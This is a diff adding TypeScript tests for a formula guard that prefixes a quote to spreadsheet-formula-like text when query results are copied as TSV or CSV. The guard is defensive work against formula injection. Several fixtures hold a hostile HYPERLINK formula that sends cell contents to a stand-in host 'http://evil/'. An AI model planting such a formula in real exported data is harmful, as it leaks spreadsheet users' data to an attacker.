@@ -1,6 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { CellValue, RowPage } from "./api";
-import { csvField, cut, MAX_COPY_ROWS, selectionBetween, selects, toCsv, toTsv, tsvField } from "./copy";
+import { csvField, cut, formatRows, formulaGuard, MAX_COPY_ROWS, selectionBetween, selects, toCsv, toTsv, tsvField } from "./copy";
 import { ResultGrid } from "./grid";
 import { frame, succeeded } from "./test-results";
 
@@ -58,6 +58,64 @@ describe("TSV", () => {
     expect(selects(rows, 3, 0)).toBe(false);
     expect(selects(null, 0, 0)).toBe(false);
     expect(cut([[1, 2, 3, 4]], { firstRow: 0, lastRow: 0, firstColumn: 1, lastColumn: 2 })).toEqual([[2, 3]]);
+  });
+});
+
+describe("the formula guard", () => {
+  it("puts a ' before text starting with each character a spreadsheet starts a formula with", () => {
+    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
+      expect(formulaGuard(`${start}1+1`)).toBe(`'${start}1+1`);
+      expect(formulaGuard(start)).toBe(`'${start}`);
+    }
+    expect(formulaGuard('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
+  });
+
+  it("leaves other text, and every number, boolean and NULL, as it is", () => {
+    // As Export: only the first character counts, and only text can be a formula.
+    for (const text of ["plain", "a=b", " =1", "\n=1", "'=1", "", "1-2", "ünï ☃"]) expect(formulaGuard(text)).toBe(text);
+    for (const value of [-5, -0.5, 0, 3, true, false, null, undefined]) expect(formulaGuard(value)).toBe(value);
+    expect(formatRows("tsv", [[-7, -0.5, false, null]], ["n", "f", "b", "z"])).toEqual({ text: "n\tf\tb\tz\n-7\t-0.5\tfalse\t\n", guardedValues: 0, guardedNames: 0 });
+  });
+
+  it("writes CSV as Export does, the guarded value quoted when it holds a quote or comma", () => {
+    // The rows and the expected text of `csv_guards_text_that_a_spreadsheet_would_run_as_a_formula`
+    // in crates/results/src/export.rs: the clipboard and the exported file agree.
+    const rows: CellValue[][] = [
+      ['=HYPERLINK("http://x","y")', "+1"],
+      ["-2+3", "@SUM(A1)"],
+      ["\tx", "a=b"],
+      [-7, -0.5],
+    ];
+    expect(formatRows("csv", rows, ["a", "b"])).toEqual({
+      text: "a,b\r\n\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",'+1\r\n'-2+3,'@SUM(A1)\r\n'\tx,a=b\r\n-7,-0.5\r\n",
+      guardedValues: 5,
+      guardedNames: 0,
+    });
+    expect(formatRows("csv", [["\r=1", null, ""]]).text).toBe("\"'\r=1\",,\"\"");
+  });
+
+  it("guards TSV too, quoting a guarded value that holds a tab, a line break or a quote", () => {
+    const rows: CellValue[][] = [
+      ['=HYPERLINK("http://evil/?"&A1,"x")', "\tx", "-1\n2"],
+      ["@a", -3, null],
+    ];
+    expect(formatRows("tsv", rows, ["a", "b", "c"])).toEqual({
+      text: `a\tb\tc\n"'=HYPERLINK(""http://evil/?""&A1,""x"")"\t"'\tx"\t"'-1\n2"\n'@a\t-3\t\n`,
+      guardedValues: 4,
+      guardedNames: 0,
+    });
+  });
+
+  it("guards column names as Export's header row, and a lone cell", () => {
+    expect(formatRows("tsv", [["x", 1]], ["=cmd()", "-n"])).toEqual({ text: "'=cmd()\t'-n\nx\t1\n", guardedValues: 0, guardedNames: 2 });
+    expect(formatRows("csv", [["+1"]], ["-n"])).toEqual({ text: "'-n\r\n'+1\r\n", guardedValues: 1, guardedNames: 1 });
+    expect(formatRows("tsv", [["=1+1"]])).toEqual({ text: "'=1+1", guardedValues: 1, guardedNames: 0 });
+  });
+
+  it("copies as-is when asked: nothing changed, nothing counted", () => {
+    const rows: CellValue[][] = [["=1+1", "@x\ty"], [-1, null]];
+    expect(formatRows("tsv", rows, ["=h", "b"], "as-is")).toEqual({ text: '=h\tb\n=1+1\t"@x\ty"\n-1\t\n', guardedValues: 0, guardedNames: 0 });
+    expect(formatRows("csv", rows, ["=h", "b"], "as-is").text).toBe("=h,b\r\n=1+1,@x\ty\r\n-1,\r\n");
   });
 });
 
@@ -134,5 +192,94 @@ describe("copying from the grid", () => {
     g.select({ row: 0, column: 0 });
     expect(await g.copySelection()).toBeNull();
     expect(onError).toHaveBeenCalledWith(expect.stringContaining("Could not copy."));
+  });
+});
+
+describe("copying from the grid with the formula guard", () => {
+  const HOSTILE = succeeded([
+      { name: "n", dataType: "bigint" },
+      { name: "note", dataType: "varchar" },
+    ], 3, 1, 1);
+  const HOSTILE_ROWS: CellValue[][] = [
+    [-5, '=HYPERLINK("http://evil/?"&A1,"x")'],
+    [3, "plain"],
+    [-1, "@SUM(A1)"],
+  ];
+  let root: HTMLElement;
+  beforeEach(() => {
+    document.body.innerHTML = `<div id="grid"></div>`;
+    root = document.getElementById("grid") as HTMLElement;
+    Object.defineProperty(root, "clientHeight", { configurable: true, get: () => 292 });
+    Object.defineProperty(root, "clientWidth", { configurable: true, get: () => 800 });
+  });
+  afterEach(() => {
+    document.body.innerHTML = "";
+  });
+
+  async function grid(result = HOSTILE) {
+    const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: HOSTILE_ROWS.slice(offset, offset + limit) }));
+    const copy = vi.fn((_: string) => Promise.resolve());
+    const onCopied = vi.fn();
+    const g = new ResultGrid(root, { fetchRows, onError: vi.fn(), copy, onCopied, overscan: 2 });
+    g.show(result);
+    await frame();
+    const press = (init: KeyboardEventInit) => root.dispatchEvent(new KeyboardEvent("keydown", { key: "c", ctrlKey: true, bubbles: true, ...init }));
+    return { g, copy, onCopied, press };
+  }
+
+  it("guards Ctrl+C (TSV) and Ctrl+Shift+C (CSV) and says how many values it changed", async () => {
+    const { g, copy, onCopied, press } = await grid();
+    g.select({ row: 0, column: -1 }, { row: 2, column: -1 });
+    press({});
+    await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(1));
+    expect(copy).toHaveBeenLastCalledWith(`n\tnote\n-5\t"'=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t'@SUM(A1)\n`);
+    await vi.waitFor(() =>
+      expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV; 2 values starting like a formula got a leading ' (menu: Copy values as-is)."),
+    );
+    press({ key: "C", shiftKey: true });
+    await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(2));
+    expect(copy).toHaveBeenLastCalledWith(`n,note\r\n-5,"'=HYPERLINK(""http://evil/?""&A1,""x"")"\r\n3,plain\r\n-1,'@SUM(A1)\r\n`);
+    g.destroy();
+  });
+
+  it("guards a lone cell too, and leaves a negative number and plain text alone", async () => {
+    const { g, copy, onCopied, press } = await grid();
+    g.select({ row: 2, column: 1 });
+    press({});
+    await vi.waitFor(() => expect(copy).toHaveBeenLastCalledWith("'@SUM(A1)"));
+    await vi.waitFor(() =>
+      expect(onCopied).toHaveBeenLastCalledWith("Copied the cell; it starts like a formula and got a leading ' (menu: Copy values as-is)."),
+    );
+    g.select({ row: 0, column: 0 });
+    press({});
+    await vi.waitFor(() => expect(copy).toHaveBeenLastCalledWith("-5"));
+    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied the cell."));
+    g.select({ row: 1, column: 0 }, { row: 1, column: 1 });
+    expect(await g.copySelection()).toBe("n\tnote\n3\tplain\n");
+    expect(onCopied).toHaveBeenLastCalledWith("Copied 1 row as TSV.");
+    g.destroy();
+  });
+
+  it("guards a copied column name and counts it apart from the values", async () => {
+    const { g, onCopied } = await grid(succeeded([
+        { name: "-n", dataType: "bigint" },
+        { name: "note", dataType: "varchar" },
+      ], 3, 1, 1));
+    g.select({ row: 1, column: 0 }, { row: 2, column: 1 });
+    expect(await g.copySelection("csv")).toBe("'-n,note\r\n3,plain\r\n-1,'@SUM(A1)\r\n");
+    expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as CSV; 1 value and 1 column name starting like a formula got a leading ' (menu: Copy values as-is).");
+    g.destroy();
+  });
+
+  it("copies values as-is when asked, and says so", async () => {
+    const { g, copy, onCopied } = await grid();
+    g.select({ row: 0, column: 0 }, { row: 2, column: 1 });
+    expect(await g.copySelection("tsv", "as-is")).toBe(`n\tnote\n-5\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t@SUM(A1)\n`);
+    expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV, values as-is (no formula guard).");
+    g.select({ row: 2, column: 1 });
+    expect(await g.copySelection("csv", "as-is")).toBe("@SUM(A1)");
+    expect(copy).toHaveBeenLastCalledWith("@SUM(A1)");
+    expect(onCopied).toHaveBeenLastCalledWith("Copied the cell as CSV, as-is (no formula guard).");
+    g.destroy();
   });
 });
